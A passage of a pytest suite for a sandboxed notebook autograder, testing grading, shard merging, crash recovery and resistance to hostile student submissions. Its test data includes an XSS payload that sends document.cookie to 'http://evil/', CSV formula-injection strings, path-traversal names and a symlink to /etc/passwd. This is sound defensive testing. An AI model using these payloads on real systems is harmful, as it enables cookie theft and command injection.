                             str(tmp_path / "out"), "--no-sandbox"], capture_output=True, text=True, cwd=REPO, env=env)
    assert result.returncode == 0 and "not trustworthy" in result.stderr


# --------------------------------------------------------------------------- grading in the sandbox

@needs_bwrap
@pytest.mark.parametrize("hw", HOMEWORK)
def test_solution_scores_full_marks_and_blank_scores_zero(tmp_path, hw):
    blank = nbformat.read(REPO / "homework" / f"{hw}.ipynb", 4)
    results, out = grade_folder(tmp_path, hw, {"reference": solution(hw), "untouched": blank})
    assert results["reference"]["total"] == results["reference"]["max_points"] == automatic_max(hw), results["reference"]
    assert results["reference"]["status"] == "ok"
    assert results["untouched"]["total"] == 0 and results["untouched"]["status"] == "ok"
    rows = list(csv.DictReader(open(out / "grades.csv")))
    assert [r["student"] for r in rows] == ["reference", "untouched"]
    assert (out / "histogram.png").stat().st_size > 1000
    feedback = (out / "feedback" / "untouched.md").read_text()
    source = nbformat.read(release.SOURCE_DIR / f"{hw}.ipynb", 4)
    for test in (t for q in cells.questions(source) for t in q.tests):
        assert test.message in feedback
        assert "def judge" not in feedback and "inputs(" not in feedback and "detail" not in feedback


@needs_bwrap
def test_written_answers_are_listed_as_manual_and_merge_keeps_them(tmp_path):
    hw = "hw5_batchnorm"
    reference, blank = solution(hw), nbformat.read(REPO / "homework" / f"{hw}.ipynb", 4)
    answered = solution(hw)
    mine = "Small batches: noisy statistics. *LayerNorm* uses one example's features.\n"
    next(c for c in answered.cells if cells.info(c).get("kind") == "written").source = mine
    hostile = solution(hw)
    script = "<script>fetch('http://evil/'+document.cookie)</script><img src=x onerror=alert(1)>\n```\n"
    next(c for c in hostile.cells if cells.info(c).get("kind") == "written").source = script + "A" * 1_000_000
    gone = solution(hw)
    gone.cells = [c for c in gone.cells if cells.info(c).get("kind") != "written"]
    folder = write_folder(tmp_path / "submissions", {"answered": answered, "blank": blank, "gone": gone,
                                                     "hostile": hostile})
    key = tmp_path / "grader.key"
    keys.new_key_file(key)
    results = by_student(grade.grade(hw, [folder], tmp_path / "out", workers=2, progress=False,
                                     shard=(0, 1), key_file=key))
    out = tmp_path / "out"
    assert results["answered"]["total"] == results["hostile"]["total"] == 12 and results["blank"]["total"] == 0
    assert all(r["max_points"] == 12 and r["manual_max"] == 3 for r in results.values())
    assert results["answered"]["status"] == results["blank"]["status"] == "ok"
    assert results["gone"]["status"] == "written answer cell missing: q4" and results["gone"]["total"] == 12
    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv"))}
    assert list(rows["answered"]) == ["student", "q1", "q2", "q3", "q4", "total", "max", "manual_max", "status"]
    assert rows["answered"]["q4"] == rows["hostile"]["q4"] == "manual (max 3)"
    assert rows["blank"]["q4"] == rows["gone"]["q4"] == "manual (max 3, blank)"
    assert rows["answered"]["total"] == rows["answered"]["max"] == "12" and rows["answered"]["manual_max"] == "3"
    summary = json.loads((out / "summary.json").read_text())
    assert summary["max_points"] == 12 and summary["manual_max"] == 3 and summary["written_answered"] == {"q4": 2}

    feedback = (out / "feedback" / "answered.md").read_text()
    assert "```text\n" + mine + "```" in feedback and "q4: graded by hand (3 points" in feedback
    assert mine in (out / "written" / "answered.md").read_text()
    assert "blank" in (out / "feedback" / "blank.md").read_text()
    assert "missing" in (out / "written" / "gone.md").read_text()
    for name in ("feedback", "written"):
        text = (out / name / "hostile.md").read_text()
        assert len(text) < 30_000, "a 1 MB answer is capped"
        assert f"first {grade.WRITTEN_CAP} of {len(script) + 1_000_000} characters" in text
        before, fenced = text.split("````text\n", 1)
        assert "<script>" not in before and fenced.index("<script>") < fenced.index("\n````")

    merged = merge.merge([out], tmp_path / "merged")
    assert len(merged) == 4
    assert (tmp_path / "merged" / "grades.csv").read_bytes() == (out / "grades.csv").read_bytes()
    assert (tmp_path / "merged" / "written" / "hostile.md").read_bytes() == (out / "written" / "hostile.md").read_bytes()


@needs_bwrap
def test_hw6_judges_reject_a_v15_bottleneck_and_an_eval_mode_measurement(tmp_path):
    wrong = solution("hw6_resnet")
    q1 = answer_cell(wrong, "q1")
    for paper, v15 in [("nn.Conv2d(in_channels, width, 1, stride, bias=False)", "nn.Conv2d(in_channels, width, 1, 1, bias=False)"),
                       ("nn.Conv2d(width, width, 3, 1, 1, bias=False)", "nn.Conv2d(width, width, 3, stride, 1, bias=False)")]:
        assert q1.source.count(paper) == 1
        q1.source = q1.source.replace(paper, v15)   # torchvision's placement: the stride on the 3x3
    q3 = answer_cell(wrong, "q3")
    assert q3.source.count("net = cifar_network(depth, residual)\n") == 1
    q3.source = q3.source.replace("net = cifar_network(depth, residual)\n", "net = cifar_network(depth, residual).eval()\n")
    results, _ = grade_folder(tmp_path, "hw6_resnet", {"wrong": wrong})
    questions = results["wrong"]["questions"]
    assert {q: questions[q]["points"] for q in questions} == {"q1": 3, "q2": 3, "q3": 0}, questions
    assert [f["test"] for f in questions["q1"]["failed"]] == ["q1.projection"], "same shapes and parameters"
    assert results["wrong"]["status"] == "ok"


@needs_bwrap
def test_hw7_judges_reject_a_block_without_its_input_a_transition_without_relu_and_a_k_over_budget(tmp_path):
    wrong = solution("hw7_densenet")
    for qid, (right, bad) in {"q1": ("return torch.cat(features, 1)", "return torch.cat(features[1:], 1)"),
                              "q2": ("self.conv(torch.relu(self.norm(x)))", "self.conv(self.norm(x))"),
                              "q3": ("while count(k + 1) <= max_params:", "while count(k) <= max_params:")}.items():
        cell = answer_cell(wrong, qid)
        assert cell.source.count(right) == 1
        cell.source = cell.source.replace(right, bad)
    results, _ = grade_folder(tmp_path, "hw7_densenet", {"wrong": wrong})
    questions = results["wrong"]["questions"]
    assert {q: questions[q]["points"] for q in questions} == {"q1": 2, "q2": 2, "q3": 0}, questions
    assert sorted(f["test"] for f in questions["q1"]["failed"]) == ["q1.block", "q1.shape"]
    assert [f["test"] for f in questions["q2"]["failed"]] == ["q2.transition"]
    assert results["wrong"]["status"] == "ok"


@needs_bwrap
def test_hw8_judges_reject_each_wrong_answer_and_the_rule_refuses_library_attention(tmp_path):
    wrong = solution("hw8_vit_coatnet")
    for qid, (right, bad) in {
            "q1": ("torch.cat([self.class_token.expand(len(x), -1, -1), patches], 1)",   # the class token last
                   "torch.cat([patches, self.class_token.expand(len(x), -1, -1)], 1)"),
            "q2": ("/ head_dim ** 0.5", "/ dim ** 0.5"),                                  # scaled by the width
            "q3": ("return torch.softmax(logits, dim=-1) @ x",                            # the bias after the softmax
                   "return (torch.softmax(x @ x.transpose(-2, -1), dim=-1) + relative_bias(table, size)[0]) @ x"),
            "q4": ("tokens = patches + 1", "tokens = patches")}.items():                  # no class token
        cell = answer_cell(wrong, qid)
        assert cell.source.count(right) == 1
        cell.source = cell.source.replace(right, bad)
    library = solution("hw8_vit_coatnet")   # right numbers, but torch's attention: the rule zeroes q2 and q3
    answer_cell(library, "q2").source = """\
class EncoderBlock(nn.Module):
    def __init__(self, dim, heads, mlp_dim):
        super().__init__()
        self.norm1 = nn.LayerNorm(dim)
        self.attention = nn.MultiheadAttention(dim, heads, batch_first=True)
        self.norm2 = nn.LayerNorm(dim)
        self.fc1, self.fc2 = nn.Linear(dim, mlp_dim), nn.Linear(mlp_dim, dim)

    def forward(self, x):
        y = self.norm1(x)
        x = x + self.attention(y, y, y, need_weights=False)[0]
        return x + self.fc2(nn.functional.gelu(self.fc1(self.norm2(x))))
"""
    q3 = answer_cell(library, "q3")
    right = "return torch.softmax(logits, dim=-1) @ x"
    assert q3.source.count(right) == 1
    q3.source = q3.source.replace(right, "return nn.functional.scaled_dot_product_attention(\n"
                                         "        x, x, x, attn_mask=relative_bias(table, size)[0], scale=1.0)")
    results, _ = grade_folder(tmp_path, "hw8_vit_coatnet", {"wrong": wrong, "library": library})
    questions = results["wrong"]["questions"]
    assert {q: questions[q]["points"] for q in questions} == {"q1": 1, "q2": 3, "q3": 2, "q4": 0}, questions
    assert [f["test"] for f in questions["q1"]["failed"]] == ["q1.tokens"]
    assert [f["test"] for f in questions["q2"]["failed"]] == ["q2.heads"], "one head: d_h = dim"
    assert [f["test"] for f in questions["q3"]["failed"]] == ["q3.attention"]
    assert results["wrong"]["status"] == "ok"
    questions = results["library"]["questions"]
    assert {q: questions[q]["points"] for q in questions} == {"q1": 3, "q2": 0, "q3": 0, "q4": 3}, questions
    assert all(not questions[q]["failed"] or all(f["detail"] == "" for f in questions[q]["failed"])
               for q in ("q2", "q3")), "the judges pass: only the rule zeroes them"
    assert "MultiheadAttention" in str(questions["q2"]["rule_violations"])
    assert "scaled_dot_product_attention" in str(questions["q3"]["rule_violations"])
    assert results["library"]["status"] == "own-code rule broken: q2, q3"


@needs_bwrap
def test_attack_suite(tmp_path):
    """Every attack scores what its honest content deserves; nobody else's grade moves; nothing outlives it."""
    source_before = (release.SOURCE_DIR / "hw1_alexnet.ipynb").read_bytes()
    reference, blank = attacks.notebooks()
    suite = attacks.cases()
    assert len(suite) >= 15
    submissions = {"aaa_reference": reference, "aaa_blank": blank, **{name: nb for name, (nb, _) in suite.items()}}
    results, out = grade_folder(tmp_path / "batch", "hw1_alexnet", submissions, workers=3, timeout=15)
    table = [f"{name:<26} {results[name]['total']:>4g} {results[name]['status']}" for name in sorted(results)]
    print("\n" + "\n".join(table))
    assert results["aaa_reference"]["total"] == attacks.full_marks() and results["aaa_reference"]["status"] == "ok"
    assert results["aaa_blank"]["total"] == 0
    wrong = {name: (results[name]["total"], honest) for name, (_, honest) in suite.items()
             if results[name]["total"] != honest}
    assert not wrong, f"scored differently from their honest content (got, deserved): {wrong}"

    status = {name: results[name]["status"] for name in suite}
    assert "output cap" in status["floods_fd1"]
    assert status["fakes_timeout_text"] == "ok", "a student's error text must never become a status"
    assert "kernel died" not in status["forges_events"] and "timeout" not in status["forges_events"]
    assert "own-code rule broken: q1" in status["importlib_reference"]
    assert "own-code rule broken: q1" in status["torchvision_models"]

    assert (release.SOURCE_DIR / "hw1_alexnet.ipynb").read_bytes() == source_before
    time.sleep(1)  # the detached process had time to try
    assert grader_processes() == []
    assert "x" != (out / "grades.csv").read_text()[:1]
    assert not temp_folders()

    alone, _ = grade_folder(tmp_path / "alone", "hw1_alexnet", {"aaa_reference": reference})
    def scores(result):  # what a question scored; its seconds are a measurement and differ from run to run
        return {q: {k: v for k, v in score.items() if k != "seconds"} for q, score in result["questions"].items()}
    assert scores(alone["aaa_reference"]) == scores(results["aaa_reference"])


@needs_bwrap
def test_bad_submissions_get_a_status_and_change_no_other_grade(tmp_path):
    hw = "hw3_nin"
    good = solution(hw)
    deleted = solution(hw)
    deleted.cells.remove(answer_cell(deleted, "q2"))
    exception = solution(hw)
    answer_cell(exception, "q1").source = "raise RuntimeError('my bug')"
    loop = solution(hw)
    answer_cell(loop, "q2").source = "while True:\n    pass"
    dies = solution(hw)
    answer_cell(dies, "q3").source = "import os\nos._exit(1)"

    results, out = grade_folder(tmp_path, hw, {
        "a_good": good, "b_invalid_json": '{"cells": [ this is not json', "c_deleted_cell": deleted,
        "d_exception": exception, "e_infinite_loop": loop, "f_kernel_dies": dies,
    }, workers=2, timeout=6)
    assert results["a_good"]["total"] == automatic_max(hw) and results["a_good"]["status"] == "ok"
    assert results["b_invalid_json"]["status"].startswith("invalid notebook") and results["b_invalid_json"]["total"] == 0
    assert "answer cell missing: q2" in results["c_deleted_cell"]["status"]
    assert results["c_deleted_cell"]["questions"]["q2"]["points"] == 0
    assert results["c_deleted_cell"]["questions"]["q1"]["points"] == 6
    q = results["d_exception"]["questions"]
    assert q["q1"]["points"] == 0 and "my bug" in q["q1"]["answer_error"]
    assert q["q2"]["points"] == 3 and q["q3"]["points"] == 3
    assert "timeout in a cell" in results["e_infinite_loop"]["status"]
    assert results["e_infinite_loop"]["questions"]["q1"]["points"] == 6
    assert "kernel died" in results["f_kernel_dies"]["status"]
    assert results["f_kernel_dies"]["questions"]["q3"]["points"] == 0
    assert results["f_kernel_dies"]["questions"]["q1"]["points"] == 6
    assert "my bug" in (out / "feedback" / "d_exception.md").read_text()


@needs_bwrap
def test_an_edited_result_is_regraded_not_trusted(tmp_path):
    hw = "hw2_vgg"
    blank = nbformat.read(REPO / "homework" / f"{hw}.ipynb", 4)
    results, out = grade_folder(tmp_path, hw, {"blank": blank, "full": solution(hw)})
    saved = out / "results" / "blank.json"
    forged = json.loads(saved.read_text())
    forged["total"], forged["questions"]["q1"]["points"] = 12, 6
    saved.write_text(json.dumps(forged))
    os.utime(saved, ns=(0, 0))
    kept = (out / "results" / "full.json").stat().st_mtime_ns
    again = by_student(grade.grade(hw, [tmp_path / "submissions"], out, progress=False))
    assert again["blank"]["total"] == 0 and "blank,0,0,0,0" in (out / "grades.csv").read_text()
    assert (out / "results" / "full.json").stat().st_mtime_ns == kept, "a signed, unchanged result is kept"


def autograder_cli(*args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "autograder", *map(str, args)], cwd=REPO, capture_output=True,
                          text=True, timeout=600)


@needs_bwrap
def test_grading_twice_and_in_two_shards_gives_identical_grades(tmp_path):
    hw = "hw2_vgg"
    partial = solution(hw)
    answer_cell(partial, "q3").source = "def stacked_vs_single(channels, layers):\n    return (1, 2)"
    blank = nbformat.read(REPO / "homework" / f"{hw}.ipynb", 4)
    subs = {"partial": partial, "full": solution(hw), "blank": blank}
    _, first = grade_folder(tmp_path / "one", hw, subs)
    _, second = grade_folder(tmp_path / "two", hw, subs)
    assert (first / "grades.csv").read_bytes() == (second / "grades.csv").read_bytes()
    assert f"partial,6,3,0,3,manual (max 3),12,{automatic_max(hw):g}," in (first / "grades.csv").read_text()

    # The same class in two shards (as two Slurm array tasks would run it), then merged.
    key = tmp_path / "grader.key"
    assert autograder_cli("key", key).returncode == 0
    assert autograder_cli("key", key).returncode == 2, "a key is never overwritten"
    folder = tmp_path / "one" / "submissions"
    assert "needs --key" in autograder_cli("grade", hw, folder, "--out", tmp_path / "x", "--shard", "0/2").stderr
    for index in (0, 1):
        done = autograder_cli("grade", hw, folder, "--out", tmp_path / f"shard{index}", "--shard", f"{index}/2",
                              "--key", key, "--workers", "2")
        assert done.returncode == 0, done.stderr
    shards = [json.loads((tmp_path / f"shard{i}" / "shard.json").read_text())["students"] for i in (0, 1)]
    everyone = grade.collect([folder])
    assert shards == [sorted(grade.shard_of(everyone, i, 2)) for i in (0, 1)]
    assert sorted(shards[0] + shards[1]) == ["blank", "full", "partial"]
    done = autograder_cli("merge", tmp_path / "shard0", tmp_path / "shard1", "--out", tmp_path / "merged")
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "merged" / "grades.csv").read_bytes() == (first / "grades.csv").read_bytes()
    assert sorted(p.name for p in (tmp_path / "merged" / "feedback").iterdir()) == ["blank.md", "full.md", "partial.md"]

    # What merge refuses, each named (synthetic damage to real shard folders).
    refused = autograder_cli("merge", tmp_path / "shard0", "--out", tmp_path / "m1")
    assert refused.returncode == 2 and "missing [1]" in refused.stderr
    other_key = shutil.copytree(tmp_path / "shard1", tmp_path / "other_key")
    manifest = json.loads((other_key / "shard.json").read_text())
    (other_key / "shard.json").write_text(json.dumps({**manifest, "key": "0" * 16}))
    refused = autograder_cli("merge", tmp_path / "shard0", other_key, "--out", tmp_path / "m2")
    assert refused.returncode == 2 and "different grader keys" in refused.stderr
    (other_key / "shard.json").write_text(json.dumps({**manifest, "source_sha256": "f" * 64}))
    refused = autograder_cli("merge", tmp_path / "shard0", other_key, "--out", tmp_path / "m3")
    assert refused.returncode == 2 and "different homework versions" in refused.stderr
    forged = shutil.copytree(tmp_path / "shard1", tmp_path / "forged")
    result = json.loads((forged / "results" / "full.json").read_text())
    (forged / "results" / "full.json").write_text(json.dumps({**result, "total": 99}))
    refused = autograder_cli("merge", tmp_path / "shard0", forged, "--out", tmp_path / "m4")
    assert refused.returncode == 2 and "does not verify" in refused.stderr
    refused = autograder_cli("merge", tmp_path / "shard0", tmp_path / "shard1", "--out", tmp_path / "merged")
    assert refused.returncode == 2 and "not empty" in refused.stderr
    # A submission that arrives between the shards' runs changes the class: merge refuses, losing nobody.
    late = write_folder(tmp_path / "late", {**subs, "zed": solution(hw)})
    lone = next(i for i in (0, 1) if "zed" in grade.shard_of(grade.collect([late]), i, 2))
    done = autograder_cli("grade", hw, late, "--out", tmp_path / "late_shard", "--shard", f"{lone}/2",
                          "--key", key, "--workers", "2")
    assert done.returncode == 0, done.stderr
    refused = autograder_cli("merge", tmp_path / f"shard{1 - lone}", tmp_path / "late_shard", "--out", tmp_path / "m5")
    assert refused.returncode == 2 and "different classes" in refused.stderr
    (tmp_path / "short.key").write_text("00" * 8)
    refused = autograder_cli("grade", hw, folder, "--out", tmp_path / "m6", "--shard", "0/2", "--key", tmp_path / "short.key")
    assert refused.returncode == 2 and "not a grader key" in refused.stderr
    assert not any((tmp_path / m).exists() for m in ("m1", "m2", "m3", "m4", "m5")), "a refused merge writes nothing"


def _start_grading(folder: Path, out: Path, workers: int = 1) -> subprocess.Popen:
    command = [sys.executable, "-m", "autograder", "grade", "hw2_vgg", str(folder), "--out", str(out),
               "--workers", str(workers)]
    return subprocess.Popen(command, cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            start_new_session=True)


def _wait_for(path: Path, seconds: float = 120) -> None:
    deadline = time.time() + seconds
    while not path.exists() and time.time() < deadline:
        time.sleep(0.1)
    assert path.exists()


@needs_bwrap
def test_kill_9_mid_batch_then_resume_loses_nothing_and_leaves_no_orphan(tmp_path):
    folder = write_folder(tmp_path / "subs", {f"student{i}": solution("hw2_vgg") for i in range(4)})
    out = tmp_path / "out"
    process = _start_grading(folder, out)
    _wait_for(out / "results" / "student0.json")
    os.kill(process.pid, signal.SIGKILL)  # the instructor's laptop died: no handler runs
    process.wait()
    assert _gone_within(3), "a sandbox outlived the grader"
    finished = {p.name: p.stat().st_mtime_ns for p in (out / "results").glob("*.json")}
    assert 1 <= len(finished) < 4
    assert temp_folders(), "kill -9 leaves its folder for the next start to sweep"
    subprocess.run([sys.executable, "-m", "autograder", "grade", "hw2_vgg", str(folder), "--out", str(out)],
                   cwd=REPO, check=True, capture_output=True, timeout=300)
    for name, mtime in finished.items():
        assert (out / "results" / name).stat().st_mtime_ns == mtime, f"{name} was graded again"
    rows = list(csv.DictReader(open(out / "grades.csv")))
    assert len(rows) == 4 and all(r["total"] == f"{automatic_max('hw2_vgg'):g}" for r in rows)
    assert not temp_folders(), "the stale folder was swept"
    assert grader_processes() == []


def _gone_within(seconds: float) -> bool:
    deadline = time.time() + seconds
    while grader_processes() and time.time() < deadline:
        time.sleep(0.1)
    return grader_processes() == []


# A grader that starts one run and dies the instant the run's process exists: bwrap is then still
# building the sandbox and has not set its parent-death signals yet, so nothing of bwrap's ends the run.
_DIES_DURING_SETUP = """\
import os, sys, threading, time
from pathlib import Path
from autograder import run, sandbox
runner = sandbox.Runner(workers=1)
threading.Thread(target=run.run_notebook, args=(runner, Path(sys.argv[1]), 30, 600), daemon=True).start()
while not runner._running:
    time.sleep(0.001)
os._exit(0)
"""


@needs_bwrap
def test_a_grader_killed_while_bwrap_builds_the_sandbox_leaves_no_run(tmp_path):
    """CI once killed the grader in that window and the run lived on; run.LAUNCH's watch ends it."""
    work = tmp_path / "work"
    work.mkdir()
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("import time\ntime.sleep(600)")])
    nbformat.write(notebook, work / "submission.ipynb")
    subprocess.run([sys.executable, "-c", _DIES_DURING_SETUP, str(work)], cwd=REPO, check=True, timeout=60)
    # Without the watch the run sleeps through nbval's 30 s cell limit; with it, it is gone at once.
    assert _gone_within(5), grader_processes()


@needs_bwrap
@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT])
def test_sigterm_and_sigint_stop_every_run_and_remove_folders(tmp_path, signum):
    loop = solution("hw2_vgg")
    answer_cell(loop, "q1").source = "import time\ntime.sleep(600)"
    folder = write_folder(tmp_path / "subs", {"a": loop, "b": loop})
    out = tmp_path / "out"
    process = _start_grading(folder, out, workers=2)
    deadline = time.time() + 60
    while not any("/grading" in p for p in grader_processes()) and time.time() < deadline:
        time.sleep(0.1)
    time.sleep(1)
    os.kill(process.pid, signum)
    assert process.wait(timeout=30) in (130, -signum, 128 + signum)
    assert _gone_within(3)
    assert not temp_folders()
    assert not list((out / "results").glob("*.json")), "an interrupted run writes no result"


def test_missing_homework_is_a_clear_error(tmp_path):
    result = subprocess.run([sys.executable, "-m", "autograder", "grade", "hw9_nothing", str(tmp_path), "--out",
                             str(tmp_path / "o")], capture_output=True, text=True, cwd=REPO)
    assert result.returncode == 2 and "hw1_alexnet" in result.stderr


@needs_bwrap
def test_a_detached_process_dies_with_its_run(tmp_path):
    """Seen alive from outside while the run goes on, gone the moment the run ends."""
    import threading

    work = tmp_path / "work"
    work.mkdir()
    spawn = ("import subprocess, sys, time\n"
             f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', '{attacks.MARKER}'],"
             " start_new_session=True)\ntime.sleep(3)")
    runner = sandbox.Runner(workers=1)
    done = threading.Event()
    thread = threading.Thread(target=lambda: (runner.run([sys.executable, "-c", spawn], work, 60), done.set()))
    thread.start()
    seen = False
    while not done.is_set():
        seen = seen or any(attacks.MARKER in p for p in grader_processes())
        time.sleep(0.1)
    thread.join()
    assert seen, "the detached process never started, so this test proves nothing"
    time.sleep(0.3)
    assert not any(attacks.MARKER in p for p in grader_processes())


# --------------------------------------------------------------------------- issue 22: the grader knows when it failed

def test_parse_events_tells_a_starved_cell_from_a_stuck_one():
    """Synthetic event lines (the harness's format): the classification, not the measurement."""
    lines = [{"event": "started"}, {"event": "begin", "cell": 0, "kernel_alive": True},
             {"cell": 0, "passed": True, "seconds": 1.0, "kernel_alive": True, "cpu": 0.9, "waited": 0.1},
             {"cell": 1, "passed": False, "seconds": 10.0, "kernel_alive": True, "cpu": 9.8, "waited": 0.2},
             {"cell": 2, "passed": False, "seconds": 10.0, "kernel_alive": True, "cpu": 0.01, "waited": 0.0},
             {"cell": 3, "passed": False, "seconds": 10.0, "kernel_alive": True, "cpu": 1.5, "waited": 8.0}]
    events = "\n".join(json.dumps(e) for e in lines).encode() + b"\nnot json\n{\"cell\": \"x\"}\n"
    found, started, began = run.parse_events(events, cell_timeout=10)
    assert started and began and sorted(found) == [0, 1, 2, 3]
    assert found[1].timeout and not found[1].starved, "a busy loop used its CPU: the student's timeout"
    assert found[2].timeout and not found[2].starved, "a sleep neither ran nor waited: the student's timeout"
    assert found[3].timeout and found[3].starved, "ran 1.5 s, waited 8 s for a CPU: the machine's fault"
    outcome = sandbox.Outcome(1, b"some output\nlast line\n", events)
    assert "too busy: cell 3" in run.RunResult(found, outcome, True, True).grader_failure
    assert run.RunResult({0: found[0]}, outcome, True, True).grader_failure == ""
    assert run.RunResult({}, outcome, True, False).grader_failure.startswith("no kernel started (exit 1): ")
    assert run.RunResult({}, outcome, False, False).grader_failure.startswith("the sandbox did not start")
    assert run.parse_events(b'{"cell": 0, "passed": true, "seconds": 1}\n', 10)[1:] == (False, False)


def test_grades_csv_cells_never_start_a_formula_and_names_stay_plain(tmp_path):
    for text in ("=HYPERLINK(\"http://x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert report.spreadsheet_safe(text) == "'" + text
    assert report.spreadsheet_safe("alice") == "alice" and report.spreadsheet_safe(12) == "12"
    names = ["=cmd|' /C calc'!A0", "+1", "-2", "@x", "..", "...", "a\nb", "../../etc", "."]
    assert all(grade._safe(n) and "/" not in grade._safe(n) and not grade._safe(n).startswith(("=", "+", "-", "@", "."))
               for n in names)
    folder = tmp_path / "subs"
    (folder / "x").mkdir(parents=True)
    for stem in ("...", "....", "a\nb", "a_b", "=x"):
        (folder / f"{stem}.ipynb").write_text("{}")
    (folder / "x" / "a_b.ipynb").write_text("{}")
    found = grade.collect([folder])
    assert len(found) == 6 and len(set(found)) == 6, found   # every file once, under a name of its own
    assert all(grade._safe(name) == name for name in found)


def _hw1_judges(seed: int = 1) -> dict:
    assignment = grade.Assignment.read(release.SOURCE_DIR / "hw1_alexnet.ipynb")
    return {t.key: grade.Judge(t, seed) for q in assignment.questions for t in q.tests}


def test_judges_read_hostile_export_files_as_failures_without_crashing_or_stalling(tmp_path):
    """The files a student's run can leave in exports/ (written here directly, as attacks.HOSTILE_EXPORTS
    writes them in the sandbox): each is a failed test with a reason, and none blocks the judge."""
    import threading
    exports = tmp_path / "exports"
    exports.mkdir()
    namespace = {"__name__": "hostile"}
    script = attacks.HOSTILE_EXPORTS.replace('os.environ.get("AUTOGRADER_WORK", ".")', repr(str(tmp_path)))
    exec(compile(script, "hostile", "exec"), namespace)
    (exports / "q2.formula.safetensors").write_bytes((2**60).to_bytes(8, "little") + b"{}")  # header too large
    verdicts = {}
    worker = threading.Thread(target=lambda: verdicts.update({k: j(tmp_path) for k, j in _hw1_judges().items()}))
    worker.start()
    worker.join(120)
    assert not worker.is_alive(), "a judge blocked on a hostile file (a FIFO?)"
    assert verdicts and not any(v.passed for v in verdicts.values())
    details = {k: v.detail for k, v in verdicts.items()}
    assert "nested deeper" in details["q1.shape"]
    assert "NaN" in details["q1.params"] and "utf-8" in details["q1.same"]
    assert "larger than" in details["q2.formula"] and "not a plain file" in details["q3.macs"]
    assert "not a plain file" in details["q4.zeros"], "a link out of the work folder is never followed"
    shutil.rmtree(exports)
    exports.symlink_to(REPO / "autograder")
    assert all("replaced by something else" in j(tmp_path).detail for j in _hw1_judges().values())


@needs_bwrap
def test_file_names_links_and_fifos_cost_only_their_author(tmp_path):
    reference, blank = attacks.notebooks()
    folder = write_folder(tmp_path / "subs", {"=HYPERLINK(\"http:__evil\",\"x\")": reference, "+1": blank,
                                              "..": blank, "-2+3": blank, "line\nbreak": blank})
    (folder / "linked.ipynb").symlink_to(folder / "+1.ipynb")
    (folder / "outside.ipynb").symlink_to("/etc/passwd")
    os.mkfifo(folder / "fifo.ipynb")
    out = tmp_path / "out"
    results = by_student(grade.grade("hw1_alexnet", [folder], out, workers=2, cell_timeout=20,
                                     progress=False, check_first=False))
    assert len(results) == 8
    formula = grade._safe('=HYPERLINK("http:__evil","x")')
    assert [r for r in results.values() if r["total"] == attacks.full_marks()] == [results[formula]]
    for name in ("linked", "outside"):
        assert results[name]["status"].startswith("invalid submission: a symbolic link") and results[name]["total"] == 0
    assert results["fifo"]["status"] == "invalid submission: not a regular file (not read)"
    rows = list(csv.reader(open(out / "grades.csv")))
    assert len(rows) == 9 and not any(cell.startswith(report.FORMULA_STARTS) for row in rows for cell in row)
    assert sorted(p.name for p in (out / "results").iterdir()) == sorted(f"{name}.json" for name in results)


@needs_bwrap
def test_the_class_is_refused_when_the_instructor_solution_fails_in_the_sandbox(tmp_path):
    """A grader that cannot run torch (a 0.5 GiB address-space limit) would give every student 0: it
    must say so and write no grades instead."""
    folder = write_folder(tmp_path / "subs", {"alice": solution("hw1_alexnet")})
    done = autograder_cli("grade", "hw1_alexnet", folder, "--out", tmp_path / "out", "--memory-gib", "0.5")
    assert done.returncode == 3, done.stderr
    assert "instructor's own solution" in done.stderr and "not graded" in done.stderr and "self-check.json" in done.stderr
    assert not (tmp_path / "out" / "grades.csv").exists() and not list((tmp_path / "out" / "results").iterdir())
    record = json.loads((tmp_path / "out" / ".grader" / "self-check.json").read_text())
    assert record["passed"] is False and record["total"] < record["max_points"]
    done = autograder_cli("grade", "hw1_alexnet", folder, "--out", tmp_path / "out")
    assert done.returncode == 0 and "alice" in done.stdout and "15 / 15" in done.stdout, done.stdout + done.stderr


@needs_bwrap
def test_a_run_the_grader_failed_is_retried_then_not_graded_never_a_zero(tmp_path, monkeypatch):
    reference, blank = attacks.notebooks()
    folder = write_folder(tmp_path / "subs", {"alice": reference, "bob": blank})
    out = tmp_path / "out"
    real_binds = sandbox._system_binds
    broken = lambda: [*real_binds(), "--ro-bind", str(tmp_path / "no such folder"), "/nowhere"]  # noqa: E731
    monkeypatch.setattr(sandbox, "_system_binds", broken)       # a sandbox that cannot start
    with pytest.raises(grade.SelfCheckFailed, match="the sandbox did not start"):
        grade.grade("hw1_alexnet", [folder], out, progress=False)
    assert not (out / "grades.csv").exists()
    results = by_student(grade.grade("hw1_alexnet", [folder], out, progress=False, check_first=False))
    for r in results.values():
        assert r["status"].startswith("grader failure, not graded: the sandbox did not start") and r["total"] is None
        assert r["graded"] is False and "bwrap" in r["output_tail"]
    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv"))}
    assert rows["bob"]["total"] == rows["bob"]["q1"] == "not graded"
    summary = json.loads((out / "summary.json").read_text())
    assert summary["graded"] == 0 and summary["not_graded"] == ["alice", "bob"] and summary["mean_total"] == 0
    assert "Not graded yet" in (out / "feedback" / "bob.md").read_text()

    calls = []   # a sandbox that fails once, then works: the retry grades it, and says so
    monkeypatch.setattr(sandbox, "_system_binds", lambda: (calls.append(1), broken() if len(calls) == 1 else real_binds())[1])
    again = by_student(grade.grade("hw1_alexnet", [folder], out, progress=False, check_first=False,
                                   workers=1))
    assert sorted(again) == ["alice", "bob"], "not-graded results are graded again, never kept"
    first = next(r for r in again.values() if "graded on a second run" in r["status"])
    assert first["total"] == (attacks.full_marks() if first["student"] == "alice" else 0)
    assert again["alice"]["total"] == attacks.full_marks() and again["bob"]["total"] == 0
    assert json.loads((out / "summary.json").read_text())["not_graded"] == []


@needs_bwrap
def test_a_kernel_that_never_starts_is_the_graders_failure(tmp_path):
    """8 processes are too few for pytest, a kernel and its threads: the kernel dies before replying,
    before any student code ran (the run's own process limit, a real failure of the infrastructure)."""
    reference, _ = attacks.notebooks()
    folder = write_folder(tmp_path / "subs", {"alice": reference})
    results = grade.grade("hw1_alexnet", [folder], tmp_path / "out", progress=False, check_first=False,
                          limits=sandbox.Limits(processes=8))
